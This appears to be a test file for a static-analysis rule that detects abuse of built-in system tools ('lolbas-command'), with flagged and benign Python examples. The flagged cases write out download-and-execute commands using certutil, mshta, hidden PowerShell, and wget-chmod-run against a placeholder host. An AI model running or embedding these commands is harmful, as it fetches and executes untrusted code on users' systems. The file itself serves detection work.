import os
import subprocess


def update():
    # ruleid: lolbas-command
    subprocess.run(["certutil", "-urlcache", "-split", "-f", "http://example.invalid/a.txt", "a.txt"])
    # ruleid: lolbas-command
    os.system("mshta http://example.invalid/app.hta")
    # A command line known in part (the host comes from elsewhere) is still read.
    # ruleid: lolbas-command
    os.system(f"mshta http://{os.environ.get('UPDATE_HOST')}/app.hta")
    # ruleid: lolbas-command
    os.system("powershell -w hidden -c \"iwr http://example.invalid/p.ps1 -OutFile p.ps1\"")


def hash_file(path):
    # certutil used only to hash a file
    # ok: lolbas-command
    return subprocess.check_output(["certutil", "-hashfile", path, "SHA256"])


def fetch_dataset(url):
    # wget in a function the user calls is fine
    # ok: lolbas-command
    subprocess.run(["wget", "-q", url, "-O", "data.csv"])


def open_url(url):
    # ok: lolbas-command
    subprocess.run(["rundll32", "url.dll,FileProtocolHandler", url])


def registry_value():
    # ok: lolbas-command
    return subprocess.check_output(["powershell", "-NoProfile", "-Command", "Get-ItemProperty HKCU:\\Software\\Example"])


def bootstrap():
    # ruleid: lolbas-command
    os.system("wget -q http://example.invalid/m -O /tmp/.m && chmod +x /tmp/.m && /tmp/.m")
